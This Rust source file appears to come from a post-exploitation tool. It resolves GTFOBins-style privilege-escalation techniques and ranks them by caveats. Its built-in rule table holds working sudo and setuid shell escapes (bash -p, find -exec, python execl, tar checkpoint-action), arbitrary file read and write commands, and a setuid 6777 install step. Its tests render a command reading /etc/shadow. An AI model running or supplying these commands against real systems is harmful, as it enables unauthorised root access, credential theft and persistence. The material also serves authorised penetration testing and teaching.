//! Capability resolver over a GTFOBins-style rule table.
//!
//! Resolution is a pure function of (rule table, present binaries): no state,
//! safe to share across sessions. Binary presence comes from
//! [`GtfoBins::probe`], which asks the platform.

use foothold_core::{Error, Result};
use foothold_platform::{shell_quote, Platform};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;
use tracing::debug;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Capability {
    /// Spawn an interactive shell.
    Shell,
    FileRead,
    FileWrite,
    /// Put a local file at a remote path.
    Upload,
}

/// How the binary is reached.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Method {
    /// Run as the current user.
    Direct,
    /// Run through `sudo`.
    Sudo,
    /// The binary is setuid.
    Suid,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Caveat {
    RequiresTty,
    /// Needs keystrokes after start.
    Interactive,
    /// The resulting process does not keep the elevated euid.
    DropsPrivileges,
    /// Leaves obvious traces (stderr chatter, log lines).
    Noisy,
}

impl fmt::Display for Caveat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Self::RequiresTty => "requires a tty",
            Self::Interactive => "interactive",
            Self::DropsPrivileges => "drops privileges",
            Self::Noisy => "noisy",
        };
        f.write_str(s)
    }
}

/// One table entry. Templates use `{path}` for the binary and, depending on
/// the capability, `{file}`, `{data}` and `{source}`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Rule {
    pub binary: String,
    pub capability: Capability,
    pub methods: Vec<Method>,
    pub template: String,
    #[serde(default)]
    pub caveats: Vec<Caveat>,
}

/// A rule applied to a concrete binary.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Technique {
    pub binary: String,
    pub path: String,
    pub capability: Capability,
    pub method: Method,
    /// Template with `{path}` filled in (and `sudo` prefixed for `Sudo`).
    pub command: String,
    pub caveats: Vec<Caveat>,
}

impl Technique {
    /// Fill the remaining placeholders. Values are shell-quoted.
    pub fn render(&self, vars: &[(&str, &str)]) -> String {
        let mut out = self.command.clone();
        for (key, value) in vars {
            out = out.replace(&format!("{{{}}}", key), &shell_quote(value));
        }
        out
    }
}

pub struct GtfoBins {
    rules: Vec<Rule>,
}

impl GtfoBins {
    pub fn new(rules: Vec<Rule>) -> Self {
        Self { rules }
    }

    /// Built-in subset of the GTFOBins database.
    pub fn builtin() -> Self {
        Self::new(builtin_rules())
    }

    /// Load a rule table from JSON (an array of rules).
    pub fn from_json(json: &str) -> Result<Self> {
        let rules: Vec<Rule> = serde_json::from_str(json)?;
        if let Some(bad) = rules.iter().find(|r| !r.template.contains("{path}")) {
            return Err(Error::invalid_argument(
                "rules",
                format!("template for {} lacks {{path}}", bad.binary),
            ));
        }
        Ok(Self::new(rules))
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// Distinct binary names the table knows about.
    pub fn binaries(&self) -> Vec<&str> {
        let mut names: Vec<&str> = self.rules.iter().map(|r| r.binary.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        names
    }

    /// Applicable techniques, best first: fewer caveats rank higher, ties keep
    /// table order. `present` maps binary name to its path on the target.
    pub fn resolve(
        &self,
        capability: Capability,
        method: Method,
        present: &BTreeMap<String, String>,
    ) -> Vec<Technique> {
        let mut found: Vec<Technique> = self
            .rules
            .iter()
            .filter(|r| r.capability == capability && r.methods.contains(&method))
            .filter_map(|r| {
                let path = present.get(&r.binary)?;
                let body = r.template.replace("{path}", path);
                let command = match method {
                    Method::Sudo => format!("sudo {}", body),
                    Method::Direct | Method::Suid => body,
                };
                Some(Technique {
                    binary: r.binary.clone(),
                    path: path.clone(),
                    capability,
                    method,
                    command,
                    caveats: r.caveats.clone(),
                })
            })
            .collect();
        found.sort_by_key(|t| t.caveats.len());
        found
    }

    /// Which of the table's binaries exist on the target.
    pub async fn probe(&self, platform: &dyn Platform) -> Result<BTreeMap<String, String>> {
        let mut present = BTreeMap::new();
        for name in self.binaries() {
            if let Some(path) = platform.which(name).await? {
                present.insert(name.to_string(), path);
            }
        }
        debug!(found = present.len(), "probed gtfobins binaries");
        Ok(present)
    }
}

impl Default for GtfoBins {
    fn default() -> Self {
        Self::builtin()
    }
}

fn rule(
    binary: &str,
    capability: Capability,
    methods: &[Method],
    template: &str,
    caveats: &[Caveat],
) -> Rule {
    Rule {
        binary: binary.into(),
        capability,
        methods: methods.to_vec(),
        template: template.into(),
        caveats: caveats.to_vec(),
    }
}

fn builtin_rules() -> Vec<Rule> {
    use Capability::*;
    use Caveat::*;
    use Method::*;

    const ALL: &[Method] = &[Direct, Sudo, Suid];
    const NO_SUID: &[Method] = &[Direct, Sudo];

    vec![
        // shells
        rule("bash", Shell, &[Sudo, Suid], "{path} -p", &[]),
        rule("dash", Shell, &[Sudo, Suid], "{path} -p", &[]),
        rule("env", Shell, ALL, "{path} /bin/sh -p", &[]),
        rule("nice", Shell, ALL, "{path} /bin/sh -p", &[]),
        rule("find", Shell, ALL, "{path} . -exec /bin/sh -p \\; -quit", &[]),
        rule(
            "python3",
            Shell,
            ALL,
            "{path} -c 'import os; os.execl(\"/bin/sh\", \"sh\", \"-p\")'",
            &[],
        ),
        rule(
            "python",
            Shell,
            ALL,
            "{path} -c 'import os; os.execl(\"/bin/sh\", \"sh\", \"-p\")'",
            &[],
        ),
        rule("perl", Shell, NO_SUID, "{path} -e 'exec \"/bin/sh\";'", &[]),
        rule("awk", Shell, NO_SUID, "{path} 'BEGIN {system(\"/bin/sh\")}'", &[]),
        rule(
            "tar",
            Shell,
            ALL,
            "{path} -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
            &[DropsPrivileges],
        ),
        rule("vim", Shell, NO_SUID, "{path} -c ':!/bin/sh'", &[RequiresTty, Interactive]),
        rule("less", Shell, NO_SUID, "{path} /etc/profile", &[RequiresTty, Interactive]),
        // file read
        rule("cat", FileRead, ALL, "{path} {file}", &[]),
        rule("base64", FileRead, ALL, "{path} {file} | base64 --decode", &[]),
        rule("head", FileRead, ALL, "{path} -c1G {file}", &[]),
        rule("tail", FileRead, ALL, "{path} -c1G {file}", &[]),
        rule("xxd", FileRead, ALL, "{path} {file} | xxd -r", &[]),
        rule("dd", FileRead, ALL, "{path} if={file}", &[Noisy]),
        rule("less", FileRead, ALL, "{path} {file}", &[RequiresTty, Interactive]),
        // file write
        rule("tee", FileWrite, ALL, "printf '%s' {data} | {path} {file}", &[]),
        rule("dd", FileWrite, ALL, "printf '%s' {data} | {path} of={file}", &[Noisy]),
        // upload
        rule("cp", Upload, ALL, "{path} {source} {file}", &[]),
        rule("install", Upload, ALL, "{path} -m 6777 {source} {file}", &[]),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn present(names: &[&str]) -> BTreeMap<String, String> {
        names
            .iter()
            .map(|n| (n.to_string(), format!("/usr/bin/{}", n)))
            .collect()
    }

    #[test]
    fn resolves_only_present_binaries() {
        let table = GtfoBins::builtin();
        let found = table.resolve(Capability::Shell, Method::Suid, &present(&["find", "vim"]));
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].binary, "find");
        assert_eq!(found[0].command, "/usr/bin/find . -exec /bin/sh -p \\; -quit");
    }

    #[test]
    fn caveats_rank_lower() {
        let table = GtfoBins::builtin();
        let found = table.resolve(
            Capability::FileRead,
            Method::Direct,
            &present(&["less", "dd", "cat"]),
        );
        let order: Vec<&str> = found.iter().map(|t| t.binary.as_str()).collect();
        assert_eq!(order, vec!["cat", "dd", "less"]);
    }

    #[test]
    fn sudo_prefix_and_render() {
        let table = GtfoBins::builtin();
        let found = table.resolve(Capability::FileRead, Method::Sudo, &present(&["cat"]));
        assert_eq!(found[0].render(&[("file", "/etc/shadow")]), "sudo /usr/bin/cat /etc/shadow");
        let found = table.resolve(Capability::FileWrite, Method::Direct, &present(&["tee"]));
        assert_eq!(
            found[0].render(&[("data", "a b"), ("file", "/tmp/x")]),
            "printf '%s' 'a b' | /usr/bin/tee /tmp/x"
        );
    }

    #[test]
    fn empty_present_set_yields_nothing() {
        let table = GtfoBins::builtin();
        assert!(table.resolve(Capability::Shell, Method::Direct, &BTreeMap::new()).is_empty());
    }

    #[test]
    fn json_table() {
        let json = r#"[{"binary":"busybox","capability":"shell","methods":["direct"],"template":"{path} sh","caveats":["noisy"]}]"#;
        let table = GtfoBins::from_json(json).unwrap();
        assert_eq!(table.binaries(), vec!["busybox"]);
        let found = table.resolve(Capability::Shell, Method::Direct, &present(&["busybox"]));
        assert_eq!(found[0].caveats, vec![Caveat::Noisy]);

        let bad = r#"[{"binary":"x","capability":"shell","methods":["direct"],"template":"x"}]"#;
        assert!(GtfoBins::from_json(bad).is_err());
    }
}
